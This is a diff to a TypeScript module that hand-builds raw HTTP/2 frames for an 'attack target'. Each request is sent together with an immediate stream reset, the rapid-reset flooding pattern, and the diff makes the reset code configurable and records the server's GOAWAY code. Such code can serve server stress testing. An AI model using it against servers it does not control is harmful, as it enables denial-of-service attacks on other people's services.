@@ -5,6 +5,7 @@ import type { AttackTarget } from "./attack.ts";
 const HEADERS = 1;
 const RST_STREAM = 3;
 const SETTINGS = 4;
+const GOAWAY = 7;
 const WINDOW_UPDATE = 8;
 const END_STREAM = 1;
 const END_HEADERS = 4;
@@ -38,21 +39,24 @@ export const reference: Buffer = Buffer.from([0x80 | 62]);
 
 export interface RawConnection {
   readonly socket: Socket;
-  /** A request without a body; the frames of one call leave together. @param reset takes it back in the same bytes. */
-  readonly request: (fields: Buffer, reset?: boolean) => Buffer;
+  /** A request without a body; the frames of one call leave together. @param reset takes it back in the same bytes, with this code. */
+  readonly request: (fields: Buffer, reset?: number) => Buffer;
   /** Resolves once it is written, or at once when the connection is closed. */
   readonly write: (bytes: Buffer) => Promise<void>;
   /** Answers that came. */
   readonly answers: () => number;
+  /** The code with which the other end first asked to end the connection. */
+  readonly askedToGo: () => number | undefined;
 }
 
 /** HTTP/2 byte by byte, for what no client would send. */
-export const openRawHttp2 = async ({ host, port }: AttackTarget): Promise<RawConnection> => {
+export const openRawHttp2 = async ({ host, port }: Pick<AttackTarget, "host" | "port">): Promise<RawConnection> => {
   const socket = connect(port, host);
   await once(socket, "connect");
   socket.on("error", () => undefined);
   let rest: Buffer = Buffer.alloc(0);
   let answers = 0;
+  let code: number | undefined;
   socket.on("data", (chunk: Buffer) => {
     rest = Buffer.concat([rest, chunk]);
     while (rest.length >= HEAD_BYTES) {
@@ -60,6 +64,7 @@ export const openRawHttp2 = async ({ host, port }: AttackTarget): Promise<RawCon
       if (rest.length < end) return;
       const type = rest[3];
       if (type === HEADERS) answers++;
+      if (type === GOAWAY) code ??= rest.readUInt32BE(HEAD_BYTES + 4);
       if (type === SETTINGS && rest[4] === 0) socket.write(frame(SETTINGS, 1, 0, Buffer.alloc(0)));
       rest = rest.subarray(end);
     }
@@ -76,11 +81,11 @@ export const openRawHttp2 = async ({ host, port }: AttackTarget): Promise<RawCon
   let next = 1;
   return {
     socket,
-    request: (fields, reset = false) => {
+    request: (fields, reset) => {
       const stream = next;
       next += 2;
       const headers = frame(HEADERS, END_STREAM | END_HEADERS, stream, fields);
-      return reset ? Buffer.concat([headers, frame(RST_STREAM, 0, stream, Buffer.from([0, 0, 0, 8]))]) : headers;
+      return reset === undefined ? headers : Buffer.concat([headers, frame(RST_STREAM, 0, stream, Buffer.from([0, 0, 0, reset]))]);
     },
     write: (bytes) =>
       new Promise((resolve) => {
@@ -88,5 +93,6 @@ export const openRawHttp2 = async ({ host, port }: AttackTarget): Promise<RawCon
         socket.write(bytes, () => resolve());
       }),
     answers: () => answers,
+    askedToGo: () => code,
   };
 };
